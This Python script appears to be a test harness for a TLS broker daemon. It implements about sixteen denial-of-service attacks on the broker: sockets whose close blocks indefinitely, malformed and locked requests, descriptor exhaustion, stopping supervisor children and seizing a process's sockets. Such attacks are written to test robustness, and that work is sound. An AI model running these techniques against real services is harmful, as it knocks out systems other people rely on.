#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks by somebody who can reach one service of the broker. It is started as root and becomes the user: UID ATTACK ARGUMENT...
It goes on until it is killed. Uses only Python's standard library. x86-64 Linux.

    answer PATH         attaches by PATH; sends requests with answer sockets in which lies, unread, a socket whose close(2) waits
    socket PATH         the same, but sends such a socket itself with a malformed request
    file PATH FILE      the same with a file, of a file system that does not answer when the file is closed
    end PATH FILE PORT  sends the end of relayed connections, whose client it is too, with such a file
    lock PATH FILE [n]  has sockets wrapped that are locked: another thread sends from a page of the file, which never comes
    wrap PATH           has a socket wrapped, sets it to blocking without the broker's knowledge, and sends half a record
    shut PATH           shuts down the requests or the queue, in turns, again and again
    flood PATH          attaches and detaches, as often as it can
    clients PORT        is the client of a worker that is "own", and tells it to attack
    own                 is a worker: if the client says "attack" it sends its own connection, whose close(2) waits, to the broker
    stop PID            kills PID, and then stops (SIGSTOP) each new process of the supervisor that becomes one of this user
    reports PID         fills the memory of a handshaker's reports as fast as it is read
    flight LIMIT        sends descriptors over its own sockets and reads none, until the kernel allows its user no more than LIMIT
    pipes PID           holds the locks of the pipes of a broker's process, like a helper to whom that process has sent them
    seize PID FILE      holds the locks of its sockets: each is to get a filter from a page of the file, which never comes
    taken PID           has the sockets of a process of the broker, and sends a socket whose close(2) waits over each
"""

import contextlib
import ctypes
import fcntl
import itertools
import mmap
import os
import resource
import signal
import socket
import ssl
import struct
import sys
import threading
import time

REKEY = bytes([1, 1, 2, 0, 1, 1, 1, 0, 5]) + b"token"
WRAP_AS_SERVER = bytes([1, 3, 4, 0, 1, 1])
MALFORMED = b"\x09"
LONG = struct.pack("ii", 1, 3600)
APPLICATION_DATA = bytes([23, 3, 3, 1, 0])  # the head of a record of 256 bytes
# Often enough that each process that takes the victim's place gets the next attack, and so seldom that nothing fills up.
PACE = 0.3
SO_ATTACH_FILTER = 26
kept = []


def say(*words):
    print(*words, flush=True)


def lingering():
    """A TCP socket whose last close(2) waits until somebody reads what it has sent, which nobody does."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        client = socket.create_connection(server.getsockname())
        peer, _ = server.accept()
    kept.append(peer)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LONG)
    client.setblocking(False)
    try:
        while True:
            client.send(bytes(65536))
    except BlockingIOError:
        return client


def attach(path):
    """Attaches; returns the queue and the socket for requests."""
    connection = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    connection.connect(path)
    answer, descriptors, _, _ = socket.recv_fds(connection, 64, 4)
    if answer[9] != 0:
        sys.exit(f"not attached: {answer!r}")
    kept.append(connection)
    return [socket.socket(fileno=descriptor) for descriptor in descriptors]


def packets():
    return socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)


def again_and_again(attempt):
    """Makes each attempt in a thread of its own, since our own close(2) may be the last one, and would wait."""
    say("attacking")
    while True:
        threading.Thread(target=attempt, daemon=True).start()
        time.sleep(PACE)


def send_and_close(requests, message, *sockets):
    socket.send_fds(requests, [message], [one.fileno() for one in sockets])
    for one in sockets:
        one.close()


def answer_sockets(path):
    _, requests = attach(path)

    def attempt():
        inner = lingering()
        answer, ours = packets()
        kept.append(ours)
        socket.send_fds(ours, [b"x"], [inner.fileno()])
        inner.close()
        send_and_close(requests, REKEY, answer, packets()[0])
    again_and_again(attempt)


def sockets(path):
    _, requests = attach(path)
    again_and_again(lambda: send_and_close(requests, MALFORMED, lingering(), packets()[0]))


def files(path, file):
    _, requests = attach(path)
    # We never close the file ourselves.
    kept.append(opened := os.open(file, os.O_RDWR))
    say("attacking")
    while True:
        socket.send_fds(requests, [MALFORMED], [opened])
        time.sleep(PACE)


def ends(path, file, port):
    queue, _ = attach(path)
    kept.append(opened := os.open(file, os.O_RDWR))
    context = ssl._create_unverified_context()

    def connect():
        try:
            kept.append(context.wrap_socket(socket.create_connection(("127.0.0.1", int(port)), 5)))
        except OSError:
            pass

    say("attacking")
    while True:
        threading.Thread(target=connect, daemon=True).start()
        _, descriptors, _, _ = socket.recv_fds(queue, 16384, 1)
        with socket.socket(fileno=descriptors[0]) as connection:
            try:
                socket.send_fds(connection, [b"\0"], [opened])
            except OSError:
                pass
            kept.append(connection.dup())
        time.sleep(PACE)


def locks(path, file, count="0"):
    _, requests = attach(path)
    opened = os.open(file, os.O_RDWR)
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    libc.send.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    page = libc.mmap(None, 4096, 1, 2, opened, 0)
    with socket.create_server(("127.0.0.1", 0)) as server:
        locked = socket.create_connection(server.getsockname())
        kept.append(server.accept())
    threading.Thread(target=lambda: libc.send(locked.fileno(), page, 100, 0), daemon=True).start()
    time.sleep(0.5)  # until the other thread is in that call
    say("attacking")
    for sent in itertools.count(1):
        answer, ours = packets()
        kept.append(ours)
        socket.send_fds(requests, [WRAP_AS_SERVER], [answer.fileno(), locked.fileno()])
        answer.close()
        if sent == int(count):
            break
        time.sleep(0.01 if int(count) else PACE)
    signal.pause()


def wraps(path):
    _, requests = attach(path)
    context = ssl._create_unverified_context()

    def shake_hands(client):
        try:
            kept.append(context.wrap_socket(client))
        except OSError:
            pass

    def attempt():
        with socket.create_server(("127.0.0.1", 0)) as server:
            client = socket.create_connection(server.getsockname())
            ours, _ = server.accept()
        wire = client.dup()  # below the client's TLS
        kept.extend([wire, ours])
        answer, asked = packets()
        socket.send_fds(requests, [WRAP_AS_SERVER], [asked.fileno(), ours.fileno()])
        asked.close()
        shaking = threading.Thread(target=shake_hands, args=(client,), daemon=True)
        shaking.start()
        answer.settimeout(5)
        try:
            kept.append(socket.recv_fds(answer, 20000, 1))
        except OSError:
            return  # the handshaker has died of another attempt
        shaking.join(5)
        time.sleep(0.1)
        ours.setblocking(True)  # changes the open file description, which is shared
        wire.send(APPLICATION_DATA)

    again_and_again(attempt)


def shuts(path):
    say("attacking")
    for turn in itertools.count():
        queue, requests = attach(path)
        try:
            requests.shutdown(socket.SHUT_WR) if turn % 2 == 0 else queue.shutdown(socket.SHUT_RD)
        except OSError:
            pass
        time.sleep(PACE)


def clients(port):
    context = ssl._create_unverified_context()

    def connect():
        client = context.wrap_socket(socket.create_connection(("127.0.0.1", int(port))))
        client.send(b"attack")
        kept.append(client)
    again_and_again(connect)


def own(*unused):
    """A worker of profile "strict", without network. It reads records of kernel TLS and bytes of a relay in the same way."""
    queue, requests = socket.socket(fileno=3), socket.socket(fileno=4)

    def send(connection):
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LONG)
        connection.setblocking(False)
        try:
            while True:
                connection.send(bytes(65536))
        except BlockingIOError:
            pass
        answer, ours = packets()
        kept.append(ours)
        socket.send_fds(ours, [b"x"], [connection.fileno()])
        connection.close()
        send_and_close(requests, REKEY, answer, packets()[0])

    def serve(connection):
        if connection.recv(100) == b"attack":
            send(connection)
        else:
            connection.send(b"attacked")
            connection.close()

    while True:
        _, control, _, _ = queue.recvmsg(16384, 64)
        connection = socket.socket(fileno=int.from_bytes(control[0][2][:4], sys.byteorder))
        threading.Thread(target=serve, args=(connection,), daemon=True).start()


def floods(path):
    say("attacking")
    while True:
        try:
            attach(path)
            kept.pop().close()
        except OSError:
            pass


def stops(pid):
    """Between setresuid(2) and execve(2) a child of the supervisor is an ordinary process of this user."""
    victim = int(pid)
    with open(f"/proc/{victim}/stat", encoding="utf-8") as file:
        supervisor = int(file.read().rpartition(")")[2].split()[1])
    say("attacking")
    with open(f"/proc/{supervisor}/task/{supervisor}/children", encoding="ascii") as children:
        known = set(children.read().split())
        os.kill(victim, signal.SIGKILL)
        while True:
            children.seek(0)
            for child in set(children.read().split()) - known:
                try:
                    os.kill(int(child), signal.SIGSTOP)
                    name = stopped(child)
                except OSError:
                    continue  # not yet a process of this user, or already gone
                known.add(child)
                if name == "tlsbrokerd":
                    say("stopped")
                else:  # too late; wait for the next one
                    os.kill(int(child), signal.SIGKILL)


def stopped(pid):
    """Waits until a process that got SIGSTOP has stopped; returns the name of its program. In execve(2) it stops only after that
    call."""
    while True:
        with open(f"/proc/{pid}/stat", encoding="utf-8") as file:
            before, _, behind = file.read().rpartition(")")
        if behind.split()[0] == "T":
            return before.partition("(")[2]
        time.sleep(0.001)


def reports(pid):
    """Each message asks for a connection to an upstream that does not exist."""
    import takeover  # pylint: disable=import-outside-toplevel
    connect = bytes([22, 1, 0, 4, 0, 0, 0, 5, 2, 0, 2, 0, 0])  # protocol/supervision_fields.h
    os.kill(int(pid), signal.SIGSTOP)  # so that the process itself reports nothing
    with takeover.Ring(int(pid)) as ring:
        say("attacking")
        with contextlib.suppress(OSError, struct.error):  # the process has ended
            while True:
                ring.fill(connect)
                time.sleep(0.0001)
    signal.pause()


def in_flight(limit):
    """RLIMIT_NOFILE belongs to a process, but the kernel counts the descriptors under way of the whole user: unix(7),
    ETOOMANYREFS."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (int(limit), int(limit)))
    while True:
        sending, receiving = packets()
        kept.extend((sending, receiving))
        try:
            while True:
                socket.send_fds(sending, [b"x"], [sending.fileno()] * 253, socket.MSG_DONTWAIT)
        except BlockingIOError:
            continue
        except OSError as error:
            say("refused", error.errno)
            break
    say("attacking")
    signal.pause()


def taken(pid):
    """Does, by pidfd_getfd(2) and as root, what a process that was taken over could do with its own sockets."""
    import takeover  # pylint: disable=import-outside-toplevel
    taken_over = []
    for descriptor, copy in takeover.copied_sockets(int(pid)):
        if copy.family == socket.AF_UNIX:
            taken_over.append((descriptor, copy.dup()))
    for descriptor, copy in taken_over:
        threading.Thread(target=send_lingering, args=(descriptor, copy), daemon=True).start()
        time.sleep(0.1)
    say("attacking")
    signal.pause()


def send_lingering(descriptor, copy):
    inner = lingering()
    try:
        socket.send_fds(copy, [b"x"], [inner.fileno()], socket.MSG_DONTWAIT | socket.MSG_NOSIGNAL)
    except OSError as error:
        kept.append(inner)
        say(descriptor, "refused", error.errno)
    else:
        inner.close()  # so that the receiver has the last copy
        say(descriptor, "accepted")


def pipes(pid):
    """splice(2) holds the lock of the pipe into which it moves data, as long as it waits for more data. It has moved some data
    into the pipe already, so that the reader finds something to read."""
    import takeover  # pylint: disable=import-outside-toplevel
    for _, pipe in takeover.copies(int(pid), "pipe"):
        if fcntl.fcntl(pipe, fcntl.F_GETFL) & os.O_ACCMODE != os.O_WRONLY:
            continue
        fcntl.fcntl(pipe, fcntl.F_SETFL, 0)
        reading, writing = socket.socketpair()
        kept.append(writing)
        reading.setsockopt(socket.SOL_SOCKET, socket.SO_RCVLOWAT, 1000)
        writing.sendall(b"held\n")
        threading.Thread(target=lambda reading=reading, pipe=pipe: os.splice(reading.fileno(), pipe, 1000), daemon=True).start()
    # The bell of its reports, an eventfd, also has flags that all who have it share.
    fcntl.fcntl(takeover.copy_of(int(pid), takeover.Ring.BELL), fcntl.F_SETFL, 0)
    say("attacking")
    signal.pause()


def seize(pid, file):
    """setsockopt(2) holds the lock of the socket as long as it copies the filter."""
    import takeover  # pylint: disable=import-outside-toplevel
    libc = ctypes.CDLL(None, use_errno=True)
    with open(file, "rb") as opened:
        kept.append(page := mmap.mmap(opened.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE))
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    program = struct.pack("HxxxxxxQ", 1, address)  # struct sock_fprog
    for _, held in takeover.copies(int(pid), "socket"):
        threading.Thread(target=libc.setsockopt, args=(held, socket.SOL_SOCKET, SO_ATTACH_FILTER, program, len(program)),
                         daemon=True).start()
    time.sleep(0.2)
    say("attacking")
    signal.pause()


ATTACKS = {"answer": answer_sockets, "socket": sockets, "file": files, "end": ends, "lock": locks, "wrap": wraps,
           "clients": clients, "own": own, "shut": shuts, "flood": floods, "stop": stops, "reports": reports, "flight": in_flight,
           "taken": taken, "pipes": pipes, "seize": seize}


def main():
    uid, attack, *arguments = sys.argv[1:]
    "".encode("idna")  # loads what sockets would load later, when its files may be out of reach
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    if int(uid):
        os.setgroups([])
        os.setgid(int(uid))
        os.setuid(int(uid))
    ATTACKS[attack](*arguments)


if __name__ == "__main__":
    main()
